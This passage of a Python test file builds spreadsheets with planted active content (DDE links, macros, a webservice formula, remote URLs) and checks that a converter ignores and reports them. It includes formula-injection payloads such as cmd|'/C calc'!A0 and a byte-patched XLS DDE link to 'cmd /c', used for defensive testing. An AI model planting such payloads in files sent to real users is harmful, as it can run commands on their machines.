    more += b'<table:database-source-sql table:database-name="x"/>'
    text = text.replace(b"</office:spreadsheet>", more + b"</office:spreadsheet>")
    assert ODS in text
    assert formula in text
    data = with_part(data, "content.xml", text)
    path.write_bytes(with_part(data, "Scripts/python/x.py", b"x"))
    return path


def bad_xls(path: Path) -> Path:
    """A workbook of old Excel, in which the name of its writer became a link by DDE."""
    data = (Path(__file__).parent / "spreadsheets/mixed.xls").read_bytes()
    writer, link = struct.pack("<2H", 0x005C, 112), struct.pack("<2H", 0x01AE, 112)  # 2.4.349
    at = data.index(writer)
    body = struct.pack("<2H", 0, 6) + b"\0cmd\x03/c"
    path.write_bytes(data[:at] + link + body.ljust(112, b"\0") + data[at + 4 + 112 :])
    return path


def test_what_is_left_alone_in_files_of_other_kinds(tmp_path: Path) -> None:
    result = taken(bad_ods(tmp_path / "a.ods"), tmp_path / "out")
    assert "macros_ignored" in result.notes
    found = sorted((one.code, one.value) for one in result.ignored)
    assert found == [
        ("active_formula", 'webservice("http://x")'),
        ("data_connection", ""),
        ("macros", "cmd /c"),
        ("macros", "vnd.sun.star.script:x"),
        ("remote_content", "http://192.0.2.1/x"),
    ]
    result = taken(bad_xls(tmp_path / "a.xls"), tmp_path / "out2")
    assert [(one.code, one.value) for one in result.ignored] == [("macros", "cmd|/c")]
    assert converted_rows(result)


def test_what_was_left_alone_is_told_by_the_api(office: Team, tmp_path: Path) -> None:
    contract_id = opened(office)
    _, report = previewed(office, bad_tickets(tmp_path / "a.xlsx"), contract_id=contract_id)
    told = sorted((one["code"], one["place"]) for one in report["ignored"])
    assert told == sorted(IGNORED)
    assert all(one["file"] == "a.xlsx" and one["message"]["en"] for one in report["ignored"])


def test_what_was_left_alone_is_told_by_the_command_line(tmp_path: Path) -> None:
    path = bad_tickets(tmp_path / "a.xlsx")
    more = ("--contract", CONTRACT, "--format", "xlsx", "--out", tmp_path / "out", "--dry-run")
    run = docgen("convert", path, *more, "--json")
    assert run.returncode == 0, run.stdout + run.stderr
    ignored = json.loads(run.stdout)["ignored"]
    assert sorted((one["code"], one["place"]) for one in ignored) == sorted(IGNORED)
    formula = next(one for one in ignored if one["code"] == "active_formula")
    assert formula["file"] == str(path)
    assert "咨询!B2" in formula["message"]["zh"]
    assert "cmd|'/C calc'!A0" in formula["message"]["en"]
    shown = docgen("convert", path, *more)
    assert "已忽略 ignored" in shown.stdout
    assert "咨询!B2" in shown.stdout
